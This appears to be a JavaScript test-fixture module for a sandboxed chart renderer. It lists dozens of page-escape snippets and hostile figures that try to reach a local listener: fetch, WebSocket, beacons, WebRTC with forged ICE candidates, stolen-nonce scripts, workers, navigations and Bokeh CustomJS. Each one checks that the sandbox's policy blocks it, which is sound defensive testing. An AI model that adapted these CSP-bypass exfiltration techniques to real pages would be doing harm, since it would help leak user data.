// The hostile snippets and figures of tests/figure/hostile.test.mjs: every way out of the page
// that was found or thought of, each aimed at a listener of its own (TCP and UDP, on 127.0.0.1 and
// ::1, one port: `t.port`). A snippet attack runs after a drawing, inside try/catch, and leaves
// its marker: window.__plotqAttempt is 'ran' before the attack line and then what came of it
// ('called', or 'threw <name>'), read from outside the page once the job drew. An attack that
// navigates ends its job as `navigated` (DevTools saw the attempt), which is its marker.
//
// `page`: what the page's own rules show in the run with only them (the policy counts a
// violation: 'csp'; the route aborts a request: 'route'; the prelude removed the API, so the line
// throws: 'removed'; 'popup'; 'navigated'; null: nothing is counted, the listener is the proof).
// `pageThrows`: the attack line throws this under the page's rules.
// `reaches`: with no layer at all it gets to the listener on this Chromium (the control run,
// PLOTQ_FIGURE_TEST_LAYER=none; the others make no connection even then: prerender and speculation
// rules from a file: page, preconnect and dns-prefetch with the profile's network prediction off,
// print, a shared worker). `wait`: ms the page lives after the attack (WebRTC's ICE checks, a prefetch).

const RTC = (realm) => `const P = PORT;
const W = ${realm};
__plotqAttempt = 'ran';
const pc = new W.RTCPeerConnection({ iceServers: [
  { urls: ['stun:127.0.0.1:' + P, 'stun:[::1]:' + P] },
  { urls: ['turn:127.0.0.1:' + P + '?transport=udp', 'turn:127.0.0.1:' + P + '?transport=tcp',
    'turn:[::1]:' + P + '?transport=udp', 'turn:[::1]:' + P + '?transport=tcp'], username: 'u', credential: 'p' }] });
pc.createDataChannel('x');
pc.createOffer().then(async (o) => {
  await pc.setLocalDescription(o);
  // The offer back as the answer, with remote host candidates at the listener: ICE checks go out
  // to each of them (UDP, and TCP active) as well as to the STUN and TURN servers above.
  await pc.setRemoteDescription({ type: 'answer', sdp: o.sdp.replace('a=setup:actpass', 'a=setup:active') });
  const at = ['udp 2122260223 127.0.0.1 ' + P + ' typ host', 'udp 2122260223 ::1 ' + P + ' typ host',
    'tcp 1518280447 127.0.0.1 ' + P + ' typ host tcptype passive', 'tcp 1518280447 ::1 ' + P + ' typ host tcptype passive'];
  for (const [i, c] of at.entries()) await pc.addIceCandidate({ candidate: 'candidate:' + (i + 1) + ' 1 ' + c, sdpMid: '0' });
}).catch(() => {});`;

const link = (rel, extra = '') => `const l = document.createElement('link'); l.rel = '${rel}'; ${extra} l.href = URL_ + '/${rel}';
__plotqAttempt = 'ran'; document.head.appendChild(l);`;
const worker = (make) => `__plotqAttempt = 'ran';
const src = 'new WebSocket("ws://127.0.0.1:' + PORT + '/worker"); fetch("' + URL_ + '/worker-fetch").catch(() => {});';
${make}`;

export const SNIPPET_ATTACKS = [
  // the page's policy
  { name: 'fetch', reaches: true, code: `__plotqAttempt = 'ran'; fetch(URL_ + '/f').catch(() => {});`, page: 'csp' },
  { name: 'fetch https (a certificate check)', reaches: true, code: `__plotqAttempt = 'ran'; fetch('https://127.0.0.1:' + PORT + '/tls').catch(() => {});`, page: 'csp' },
  { name: 'XHR', reaches: true, code: `const x = new XMLHttpRequest(); x.open('GET', URL_ + '/x'); __plotqAttempt = 'ran'; x.send();`, page: 'csp' },
  { name: 'WebSocket', reaches: true, code: `__plotqAttempt = 'ran'; new WebSocket('ws://127.0.0.1:' + PORT + '/w');`, page: 'csp' },
  { name: 'EventSource', reaches: true, code: `__plotqAttempt = 'ran'; new EventSource(URL_ + '/es');`, page: 'csp' },
  { name: 'sendBeacon', reaches: true, code: `__plotqAttempt = 'ran'; navigator.sendBeacon(URL_ + '/b', 'x');`, page: 'csp' },
  { name: 'fetchLater', reaches: true, code: `__plotqAttempt = 'ran'; fetchLater(URL_ + '/later', { activateAfter: 0 });`, page: 'csp' },
  { name: 'image', reaches: true, code: `__plotqAttempt = 'ran'; new Image().src = URL_ + '/i.png';`, page: 'csp' },
  { name: 'image https', reaches: true, code: `__plotqAttempt = 'ran'; new Image().src = 'https://127.0.0.1:' + PORT + '/i.png';`, page: 'csp' },
  { name: '@import', reaches: true, code: `const s = document.createElement('style'); s.textContent = '@import url("' + URL_ + '/a.css");'; __plotqAttempt = 'ran'; document.head.appendChild(s);`, page: 'csp' },
  { name: 'stylesheet', reaches: true, code: link('stylesheet'), page: 'csp' },
  { name: 'font-face', reaches: true, code: `__plotqAttempt = 'ran'; new FontFace('x', 'url("' + URL_ + '/f.woff2")').load().catch(() => {});`, page: 'csp' },
  { name: 'video', reaches: true, code: `const v = document.createElement('video'); __plotqAttempt = 'ran'; v.src = URL_ + '/v.mp4'; document.body.appendChild(v);`, page: 'csp' },
  { name: 'object', reaches: true, code: `const o = document.createElement('object'); o.data = URL_ + '/o'; __plotqAttempt = 'ran'; document.body.appendChild(o);`, page: 'csp' },
  { name: 'iframe', reaches: true, code: `const f = document.createElement('iframe'); f.src = URL_ + '/frame'; __plotqAttempt = 'ran'; document.body.appendChild(f);`, page: 'csp' },
  { name: 'script without nonce', reaches: true, code: `const s = document.createElement('script'); s.src = URL_ + '/s.js'; __plotqAttempt = 'ran'; document.body.appendChild(s);`, page: 'csp' },
  // scripts with the page's own nonce pass the policy: the route refuses them
  { name: 'script with the stolen nonce', reaches: true, code: `const s = document.createElement('script'); s.nonce = document.currentScript.nonce; s.src = URL_ + '/n.js'; __plotqAttempt = 'ran'; document.body.appendChild(s);`, page: 'route' },
  { name: 'dynamic import', reaches: true, code: `__plotqAttempt = 'ran'; import(URL_ + '/m.js').catch(() => {});`, page: 'route' },
  // hints and speculation: connections the browser makes on its own, ahead of any request
  { name: 'link prefetch', reaches: true, code: link('prefetch'), page: 'csp', wait: 500 },
  { name: 'link preload', reaches: true, code: link('preload', "l.as = 'fetch';"), page: 'csp', wait: 500 },
  { name: 'link modulepreload', reaches: true, code: link('modulepreload'), page: 'csp', wait: 500 },
  { name: 'link prerender', code: link('prerender'), page: null, wait: 500 },
  { name: 'link preconnect', code: link('preconnect'), page: null, wait: 500 },
  { name: 'link dns-prefetch', code: link('dns-prefetch'), page: null, wait: 500 },
  { name: 'favicon', reaches: true, code: link('icon'), page: 'csp', wait: 500 },
  { name: 'speculation rules (nonce\'d)', code: `const s = document.createElement('script'); s.type = 'speculationrules'; s.nonce = document.currentScript.nonce;
s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [URL_ + '/spec-prefetch'] }], prerender: [{ source: 'list', urls: [URL_ + '/spec-prerender'] }] });
__plotqAttempt = 'ran'; document.head.appendChild(s);`, page: null, wait: 500 },
  // APIs that send on their own: attribution, topics, identity, payments, print
  { name: 'attributionsrc image', reaches: true, code: `const i = document.createElement('img'); i.setAttribute('attributionsrc', URL_ + '/attr'); __plotqAttempt = 'ran'; i.src = URL_ + '/attr-img'; document.body.appendChild(i);`, page: 'csp', wait: 500 },
  { name: 'fetch with attributionReporting', reaches: true, code: `__plotqAttempt = 'ran'; fetch(URL_ + '/attr-fetch', { attributionReporting: { eventSourceEligible: true, triggerEligible: false } }).catch(() => {});`, page: 'csp' },
  { name: 'browsingTopics', reaches: true, code: `__plotqAttempt = 'ran'; document.browsingTopics().catch(() => {}); fetch(URL_ + '/topics', { browsingTopics: true }).catch(() => {});`, page: 'csp' },
  { name: 'FedCM', reaches: true, code: `__plotqAttempt = 'ran'; navigator.credentials.get({ identity: { providers: [{ configURL: 'https://127.0.0.1:' + PORT + '/fedcm.json', clientId: 'x' }] } }).catch(() => {});`, page: 'csp', wait: 500 },
  { name: 'PaymentRequest manifest', reaches: true, code: `__plotqAttempt = 'ran'; new PaymentRequest([{ supportedMethods: 'https://127.0.0.1:' + PORT + '/pay' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment().catch(() => {});`,
    page: 'csp', pageThrows: 'RangeError', wait: 500 },   // the policy's connect-src, at construction
  { name: 'print', code: `const s = document.createElement('style'); s.textContent = '@media print { body { background: url("' + URL_ + '/print.png"); } }'; document.head.appendChild(s);
__plotqAttempt = 'ran'; window.print();`, page: null },
  // workers: none may start (worker-src 'none'), so none can open a socket
  { name: 'WebSocket from a blob worker', reaches: true, code: worker(`new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));`), page: 'csp' },
  { name: 'WebSocket from a data: worker', reaches: true, code: worker(`new Worker('data:text/javascript,' + encodeURIComponent(src));`), page: 'csp' },
  { name: 'WebSocket from a shared worker', code: worker(`new SharedWorker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));`), page: 'csp' },
  // WebRTC and WebTransport: sockets of their own, out of the policy's and the route's sight
  { name: 'WebRTC', reaches: true, code: RTC('window'), page: 'removed', wait: 1000 },
  { name: 'WebRTC from an iframe\'s fresh global', reaches: true, code: RTC(`document.body.appendChild(document.createElement('iframe')).contentWindow`), page: 'removed', wait: 1000 },
  { name: 'WebRTC from a popup\'s fresh global', reaches: true, code: RTC(`window.open('')`), page: 'removed', wait: 1000 },
  { name: 'WebTransport', reaches: true, code: `__plotqAttempt = 'ran'; for (const h of ['127.0.0.1', '[::1]']) new WebTransport('https://' + h + ':' + PORT + '/wt').ready.catch(() => {});`, page: 'removed', wait: 500 },
  // navigations and popups (the job answers navigated; a popup is closed)
  { name: 'window.open', reaches: true, code: `__plotqAttempt = 'ran'; window.open(URL_ + '/popup');`, page: 'popup' },
  { name: 'form submit', reaches: true, code: `const f = document.createElement('form'); f.method = 'post'; f.action = URL_ + '/form'; document.body.appendChild(f); __plotqAttempt = 'ran'; f.submit();`, page: 'navigated', nav: true },
  { name: 'location', reaches: true, code: `__plotqAttempt = 'ran'; location = URL_ + '/nav';`, page: 'navigated', nav: true },
  { name: 'a ping', reaches: true, code: `const a = document.createElement('a'); a.href = URL_ + '/a'; a.ping = URL_ + '/ping'; document.body.appendChild(a); __plotqAttempt = 'ran'; a.click();`, page: 'navigated', nav: true },
  { name: 'meta refresh', reaches: true, code: `__plotqAttempt = 'ran'; document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=' + URL_ + '/refresh">');`, page: 'navigated', nav: true },
];

// The snippet of an attack against port `port`: a d3 drawing, then the attack in a block of its
// own (its names never meet the drawing's), its outcome recorded, and the ready flag after `wait`.
export function attackSnippet(attack, drawingSource, port) {
  return [drawingSource,
    `window.__plotqAttempt = 'not reached';`,
    `{ const PORT = ${port}; const URL_ = 'http://127.0.0.1:' + PORT;`,
    `  try {\n${attack.code}\n    if (__plotqAttempt === 'ran') __plotqAttempt = 'called';`,
    `  } catch (e) { __plotqAttempt = __plotqAttempt === 'ran' ? 'threw ' + e.name : 'failed before the attack: ' + e; window.__plotqThrew = String(e); } }`,
    `setTimeout(() => { window.__anyplotReady = true; }, ${attack.wait || 300});`].join('\n');
}

// Hostile figures (data, drawn on the reused figure pages), each with its listener's URL put in.
// The marker, read from outside the page after the draw: with the page's policy, its refusal is
// counted (csp_violations); without it the figure's code runs (window.__pwned) or its loads are
// attempted (the page's resource entries for the listener's URL, failed ones included).
export const FIGURE_ATTACKS = [
  { name: 'plotly layout.images at the listener', reaches: true, library: 'plotly', figure: (url) => JSON.stringify({
    data: [{ type: 'scatter', x: [1, 2], y: [1, 2] }],
    layout: { images: [{ source: `${url}/image.png`, xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 0.5, sizey: 0.5 }] } }) },
  { name: 'bokeh CustomJS and a Div\'s handlers', reaches: true, library: 'bokeh', fixture: 'bokeh-hostile.json' },
  { name: 'bokeh web tiles', reaches: true, library: 'bokeh', fixture: 'bokeh-tiles.json' },
];

// In the page after a figure drew: what of the attack is seen there.
export function figureMarker(url) {
  return { pwned: window.__pwned === 1, loads: performance.getEntriesByType('resource').filter((e) => e.name.startsWith(url)).length };
}
